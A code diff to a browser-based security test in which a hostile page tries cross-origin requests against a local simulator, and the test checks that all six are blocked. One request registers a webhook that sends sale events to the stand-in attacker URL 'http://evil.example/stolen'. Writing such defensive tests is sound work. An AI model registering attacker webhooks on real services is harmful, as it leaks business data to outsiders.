@@ -19,7 +19,7 @@ _PAGE = """<!doctype html><title>tries</title><script>
 const webhook = {event: "SaleCreated", url: "http://evil.example/stolen"};
 const tries = [
   ["POST", "/api/Webhooks", webhook], ["POST", "/_sim/trigger", {event: "SaleCreated"}], ["POST", "/_sim/reset", {}],
-  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"],
+  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"], ["GET", "/_sim/page/events"],
 ];
 (async () => {
   const seen = [];
@@ -106,7 +106,7 @@ def test_a_page_of_another_site(sim: Simulation, tmp_path: Path):
     before = state(sim)
     site = Site(_PAGE.replace("TARGET", f"http://127.0.0.1:{sim.port}"))
     with closing(site), chromium(tmp_path, "--remote-debugging-port=0", f"http://127.0.0.1:{site.port}/"):
-        assert ["blocked", "0"] * 5 == site.seen()  # 0 is all that a page sees of an answer that it may not read
+        assert ["blocked", "0"] * 6 == site.seen()  # 0 is all that a page sees of an answer that it may not read
     assert before == state(sim)
 
 
